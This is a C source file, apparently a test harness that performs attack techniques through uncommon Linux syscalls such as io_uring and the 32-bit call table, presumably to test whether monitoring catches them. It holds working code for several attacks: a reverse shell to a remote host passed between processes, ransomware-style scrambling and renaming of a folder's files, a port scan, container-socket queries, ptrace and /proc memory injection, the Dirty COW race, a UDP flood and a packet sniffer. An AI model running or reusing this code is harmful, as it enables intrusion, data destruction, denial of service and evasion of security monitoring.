/* The same deeds by system calls that few programs make: requests of io_uring where others call,
 * the table of 32-bit calls, descriptors that are handed over, one memory under two addresses. */
#include "uring.h"
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>

static volatile char changed[64] = "untouched";
static char low[4096];

/* Addresses below 4 GiB, as the program is linked without position independence. */
static long call32(long number, long first, long second, long third)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(third)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static struct sockaddr_in far(const char *host, int port)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(port) };
    inet_pton(AF_INET, host, &address.sin_addr);
    return address;
}

static int ring_socket(struct ring *ring, int family, int kind, int protocol)
{
    struct io_uring_sqe request = { .opcode = IORING_OP_SOCKET, .fd = family, .off = kind };
    request.len = protocol;
    return ring_do(ring, &request);
}

/* IORING_OP_SEND, _RECV, _READ or _WRITE, at an offset where there is one. */
static int ring_move(struct ring *ring, int code, int fd, const void *what, unsigned size, long at)
{
    struct io_uring_sqe request = { .opcode = code, .fd = fd, .len = size };
    request.addr = (unsigned long)what;
    request.off = at;
    return ring_do(ring, &request);
}

/* Copies without a read. */
static int copy_range(const char *from, const char *to)
{
    int in = open(from, O_RDONLY), out = open(to, O_CREAT | O_WRONLY, 0600);
    return copy_file_range(in, 0, out, 0, sizeof low, 0) <= 0;
}

/* Opens into a table of the ring, so that the process never has a descriptor of the file. */
static int without_descriptor(const char *path)
{
    struct ring ring;
    int none = -1;
    if (ring_open(&ring) || syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &none, 1))
        return perror("io_uring"), 1;
    struct io_uring_sqe opens = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .file_index = 1 };
    opens.addr = (unsigned long)path;
    if (ring_do(&ring, &opens) < 0)
        return 1;
    struct io_uring_sqe reads = { .opcode = IORING_OP_READ, .flags = IOSQE_FIXED_FILE };
    reads.addr = (unsigned long)low;
    reads.len = sizeof low;
    int got = ring_do(&ring, &reads);
    return got <= 0 || write(1, low, got) != got;
}

/* One process connects; another, which never did, takes the connection and becomes a shell. */
static int handed_shell(const char *host)
{
    int pair[2];
    struct sockaddr_in to = far(host, 443);
    char space[CMSG_SPACE(sizeof(int))], byte = 'x';
    struct iovec one = { &byte, 1 };
    struct msghdr message = { .msg_iov = &one, .msg_iovlen = 1, .msg_control = space,
                              .msg_controllen = sizeof space };
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
        return 1;
    if (fork() == 0) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (void *)&to, sizeof to))
            _exit(1);
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(head), &fd, sizeof fd);
        _exit(sendmsg(pair[1], &message, 0) != 1);
    }
    int fd;
    if (recvmsg(pair[0], &message, 0) != 1)
        return 1;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    wait(0);
    for (int stream = 0; stream < 3; stream++)
        dup3(fd, stream, 0);
    execl("/bin/sh", "sh", (char *)0);
    return 1;
}

/* A child by clone3, and in it a program that is named by a folder's descriptor. */
static int clone3_exec(const char *folder, const char *name)
{
    struct clone_args about = { .flags = CLONE_CLEAR_SIGHAND, .exit_signal = SIGCHLD };
    int at = open(folder, O_PATH | O_DIRECTORY), status;
    long child = syscall(SYS_clone3, &about, sizeof about);
    if (child == 0) {
        char *words[] = { "sshd: [accepted]", 0 };
        syscall(SYS_execveat, at, name, words, 0, 0);
        _exit(1);
    }
    return child < 0 || waitpid(child, &status, 0) < 0 || status;
}

/* Code is written at one address and run at another; no page is ever both. */
static int two_maps(void)
{
    static const unsigned char code[] = { 0xb8, 0x2a, 0, 0, 0, 0xc3 };
    int memory = memfd_create("jit", 0);
    if (ftruncate(memory, 4096))
        return 1;
    void *to = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    int (*run)(void) = (int (*)(void))mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, memory, 0);
    if (to == MAP_FAILED || (void *)run == MAP_FAILED)
        return 1;
    memcpy(to, code, sizeof code);
    return run() != 42 || puts("ran") < 0;
}

/* Waits until somebody changes its memory; then says so in a file. */
static int victim(void)
{
    for (int round = 0; round < 2000 && !strcmp((const char *)changed, "untouched"); round++)
        usleep(10000);
    return close(open("/tmp/reached", O_CREAT | O_WRONLY, 0644));
}

static int seize(int pid)
{
    long word;
    memcpy(&word, "injected", sizeof word);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0))
        return perror("ptrace"), 1;
    waitpid(pid, 0, __WALL);
    return ptrace(PTRACE_POKEDATA, pid, (void *)changed, (void *)word) != 0;
}

static int ring_memory(int pid)
{
    struct ring ring;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    int fd = ring_openat(&ring, path, O_RDWR);
    return ring_move(&ring, IORING_OP_WRITE, fd, "injected", 9, (long)changed) != 9;
}

/* Scrambles each file of a folder and renames it, by requests alone. */
static int ring_encrypt(const char *folder)
{
    struct ring ring;
    DIR *list = opendir(folder);
    char from[400], to[420];
    int done = 0;
    if (ring_open(&ring) || !list)
        return perror("io_uring"), 1;
    for (struct dirent *entry; (entry = readdir(list));) {
        if (entry->d_type != DT_REG)
            continue;
        snprintf(from, sizeof from, "%s/%s", folder, entry->d_name);
        snprintf(to, sizeof to, "%s.enc", from);
        int fd = ring_openat(&ring, from, O_RDWR);
        int got = ring_move(&ring, IORING_OP_READ, fd, low, sizeof low, 0);
        for (int at = 0; at < got; at++)
            low[at] ^= (char)(at * 167 + 13);
        struct io_uring_sqe renames = { .opcode = IORING_OP_RENAMEAT, .fd = AT_FDCWD };
        renames.len = (unsigned)AT_FDCWD;
        renames.addr = (unsigned long)from;
        renames.addr2 = (unsigned long)to;
        if (got <= 0 || ring_move(&ring, IORING_OP_WRITE, fd, low, got, 0) != got ||
            ring_do(&ring, &renames))
            return 1;
        done++;
    }
    return done < 5;
}

static int ring_scan(const char *host)
{
    struct ring ring;
    int found = 0;
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    for (int port = 20; port < 520; port++) {
        struct sockaddr_in to = far(host, port);
        int fd = ring_socket(&ring, AF_INET, SOCK_STREAM, 0);
        found += !ring_connect(&ring, fd, &to, sizeof to);
        close(fd);
    }
    return found == 0;
}

/* Asks the runtime's socket; neither socket nor connect nor send is called. */
static int ring_runtime(const char *path)
{
    static const char asks[] = "GET /containers/json HTTP/1.0\r\n\r\n";
    struct ring ring;
    struct sockaddr_un to = { .sun_family = AF_UNIX };
    strncpy(to.sun_path, path, sizeof to.sun_path - 1);
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    int fd = ring_socket(&ring, AF_UNIX, SOCK_STREAM, 0);
    if (ring_connect(&ring, fd, &to, sizeof to) ||
        ring_move(&ring, IORING_OP_SEND, fd, asks, sizeof asks - 1, 0) < 0)
        return 1;
    for (int got; (got = ring_move(&ring, IORING_OP_RECV, fd, low, sizeof low, 0)) > 0;)
        if (write(1, low, got) != got)
            return 1;
    return 0;
}

/* Listens to the loopback device while it sends itself a datagram. */
static int ring_packets(void)
{
    struct ring ring;
    struct sockaddr_in to = far("127.0.0.1", 9);
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    int fd = ring_socket(&ring, AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    int own = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0 || sendto(own, "password=bait", 13, 0, (void *)&to, sizeof to) != 13)
        return 1;
    return ring_move(&ring, IORING_OP_RECV, fd, low, sizeof low, 0) <= 0;
}

/* A request over a connection that the table of 32-bit calls made. */
static int ask32(const char *host, const char *path)
{
    struct sockaddr_in to = far(host, 80);
    memcpy(low, &to, sizeof to);
    long fd = call32(359 /* socket */, AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || call32(362 /* connect */, fd, (long)low, sizeof to))
        return 1;
    dprintf(fd, "GET %s HTTP/1.0\r\n\r\n", path);
    for (ssize_t got; (got = read(fd, low, sizeof low)) > 0;)
        if (write(1, low, got) != got)
            return 1;
    return 0;
}

/* BPF_PROG_LOAD with nothing to load: a container that may not is refused before. */
static int bpf32(void)
{
    memset(low, 0, 128);
    return call32(357 /* bpf */, 5, (long)low, 128) >= 0 || puts("refused") < 0;
}

static void *forget(void *map)
{
    for (int round = 0; round < 20000; round++)
        madvise(map, 4096, MADV_DONTNEED);
    return 0;
}

/* The race of CVE-2016-5195, which kernels of today win. */
static int cow(const char *path)
{
    pthread_t other;
    int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR), written = 0;
    char *map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED || pthread_create(&other, 0, forget, map))
        return 1;
    for (int round = 0; round < 20000; round++)
        written += pwrite(memory, "moo", 3, (off_t)map) == 3;
    pthread_join(other, 0);
    return written == 0;
}

/* Many datagrams with one call each, at a victim on the internet. */
static int flood(const char *host)
{
    struct sockaddr_in to = far(host, 80);
    struct iovec body = { low, 1200 };
    struct mmsghdr many[64];
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    memset(many, 0, sizeof many);
    for (int at = 0; at < 64; at++)
        many[at].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof to,
                                            .msg_iov = &body, .msg_iovlen = 1 };
    int sent = 0;
    for (int round = 0; round < 1500; round++) {
        int now = sendmmsg(fd, many, 64, 0);
        sent += now < 0 ? 0 : now;
        usleep(1000);
    }
    return sent < 20000;
}

int main(int count, char **words)
{
    const char *way = count < 2 ? "" : words[1], *what = count < 3 ? "" : words[2];
    if (!strcmp(way, "copy-range") && count == 4)
        return copy_range(what, words[3]);
    if (!strcmp(way, "clone3-exec") && count == 4)
        return clone3_exec(what, words[3]);
    if (!strcmp(way, "connect-32") && count == 4)
        return ask32(what, words[3]);
    static const struct {
        const char *name;
        int (*with_path)(const char *);
    } ways[] = {
        { "without-descriptor", without_descriptor }, { "handed-shell", handed_shell },
        { "ring-encrypt", ring_encrypt },             { "ring-scan", ring_scan },
        { "ring-runtime", ring_runtime },             { "cow", cow },
        { "flood", flood },
    };
    for (unsigned at = 0; at < sizeof ways / sizeof *ways; at++)
        if (!strcmp(way, ways[at].name))
            return ways[at].with_path(what);
    if (!strcmp(way, "two-maps"))
        return two_maps();
    if (!strcmp(way, "victim"))
        return victim();
    if (!strcmp(way, "seize"))
        return seize(atoi(what));
    if (!strcmp(way, "ring-memory"))
        return ring_memory(atoi(what));
    if (!strcmp(way, "ring-packets"))
        return ring_packets();
    return strcmp(way, "bpf-32") ? 2 : bpf32();
}
